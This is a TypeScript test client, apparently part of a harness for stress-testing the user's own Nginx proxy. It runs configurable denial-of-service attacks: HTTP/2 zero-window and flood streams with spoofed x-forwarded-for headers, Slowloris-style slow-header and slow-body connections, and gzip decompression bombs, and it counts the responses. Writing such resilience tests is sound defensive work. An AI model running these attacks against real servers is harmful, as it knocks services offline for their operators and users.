/**
 * One hostile client, in a container of its own: runs the attack that ATTACK names on the proxy (HOST) until it is stopped, and prints what
 * its requests got when it is. Without dependencies. A connection or stream that ends is opened again.
 */
import { type ClientHttp2Session, connect as connectH2, constants, type OutgoingHttpHeaders } from "node:http2";
import { setTimeout as pause } from "node:timers/promises";
import { connect, type TLSSocket } from "node:tls";
import { gzipSync } from "node:zlib";

const { ATTACK = "", HOST = "", TARGET = "/", METHOD = "GET", ACCEPT = "text/html", PURPOSE, CLIENT } = process.env;
const { CONNECTIONS = "1", STREAMS = "1", SIZE = "0", ABORT_MS } = process.env;
const [connections, streams, size] = [CONNECTIONS, STREAMS, SIZE].map(Number) as [number, number, number];
const [OPEN_MS, REOPEN_MS] = [4, 100];
/** Well below the proxy's timeouts, which begin anew with each byte. */
const BYTE_MS = 3_000;

const results: Record<string, number> = {};
const count = (result: string | number) => {
  results[result] = (results[result] ?? 0) + 1;
};
process.on("SIGTERM", () => {
  console.log(JSON.stringify(results));
  process.exit(0);
});

/** Opens a TLS connection; resolves with undefined if it fails. */
function open(protocol: string): Promise<TLSSocket | undefined> {
  return new Promise((resolve) => {
    const options = { host: HOST, port: 8443, servername: HOST, rejectUnauthorized: false, ALPNProtocols: [protocol] };
    const socket = connect(options, () => resolve(socket));
    socket.on("error", () => undefined).on("close", () => resolve(undefined));
  });
}

/** One request over HTTP/2 after another, of the connection's client if CLIENT has an N; resolves when the session has closed. */
async function request(session: ClientHttp2Session, waitMs: number, connection: number): Promise<void> {
  while (!session.closed && !session.destroyed) {
    await new Promise<void>((resolve) => {
      const more: OutgoingHttpHeaders = PURPOSE ? { "sec-purpose": PURPOSE } : {};
      if (CLIENT) more["x-forwarded-for"] = CLIENT.replace("N", String(connection + 1));
      const own = { ":method": METHOD, ":path": TARGET, ":authority": HOST, accept: ACCEPT, "accept-encoding": "gzip" };
      const stream = session.request({ ...own, ...more }, { endStream: true });
      stream.once("response", ({ ":status": status = 0 }) => count(status));
      stream.on("error", () => undefined).on("close", resolve);
      if (ABORT_MS) setTimeout(() => stream.close(constants.NGHTTP2_CANCEL), Number(ABORT_MS));
      if (session.localSettings.initialWindowSize) stream.resume();
    });
    await pause(waitMs);
  }
}

/** Many requests over HTTP/2 on one connection; with a window of zero, nothing of the responses can be sent. */
async function multiplexed(initialWindowSize: number, waitMs: number, connection = 0): Promise<void> {
  const socket = await open("h2");
  if (!socket) return count("no connection");
  const settings = { initialWindowSize };
  const session = connectH2(`https://${HOST}:8443`, { createConnection: () => socket, settings });
  const closed = new Promise((resolve) => session.on("error", () => undefined).once("close", resolve));
  // Nginx knows how little may be sent once it has the client's settings.
  await Promise.race([closed, new Promise((resolve) => session.once("localSettings", resolve))]);
  await Promise.all([closed, ...Array.from({ length: streams }, () => request(session, waitMs, connection))]);
}

/** Writes to a connection over HTTP/1.1, then a byte now and then if `slow`; ends when the connection is closed. */
async function write(parts: (string | Buffer)[], slow: boolean): Promise<void> {
  const socket = await open("http/1.1");
  if (!socket) return count("no connection");
  socket.once("data", (answer) => count(answer.toString("latin1").slice(9, 12)));
  for (const part of parts) socket.write(part);
  const more = slow ? setInterval(() => socket.write("x"), BYTE_MS) : undefined;
  await new Promise((resolve) => socket.on("close", resolve));
  clearInterval(more);
  // The attack holds connections, it is no flood of handshakes.
  if (slow) await pause(5_000);
}

const post = (length: number, more = "") =>
  `POST ${TARGET} HTTP/1.1\r\nhost: ${HOST}\r\nconnection: close\r\ncontent-length: ${length}\r\n${more}\r\n`;
/** 92 KB that decompress to 90 MB of blank lines. */
const bomb = ATTACK === "bombs" ? gzipSync(Buffer.concat([Buffer.from("{}\n"), Buffer.alloc(90 << 20, "\n")])) : "";
const gzip = "content-type: text/plain\r\ncontent-encoding: gzip\r\n";

const attacks: Record<string, (connection: number) => Promise<void>> = {
  unread: () => multiplexed(0, 1_000),
  flood: (connection) => multiplexed(1 << 20, 0, connection),
  "slow-body": () => write([post(size + 1_000), Buffer.alloc(size, "x")], true),
  "slow-header": () => write([`GET ${TARGET} HTTP/1.1\r\nhost: ${HOST}\r\nx-slow: `], true),
  bombs: () => write([post(bomb.length, gzip), bomb], false),
};
const attack = attacks[ATTACK];
if (!attack) throw new Error(`ATTACK '${ATTACK}' is unknown: use one of ${Object.keys(attacks)}`);
/** Not all in one second: who can open thousands of TLS connections at once needs no other attack. */
for (let n = 0; n < connections; n++) {
  void (async () => {
    await pause(n * OPEN_MS);
    for (;;) {
      await attack(n);
      await pause(REOPEN_MS);
    }
  })();
}
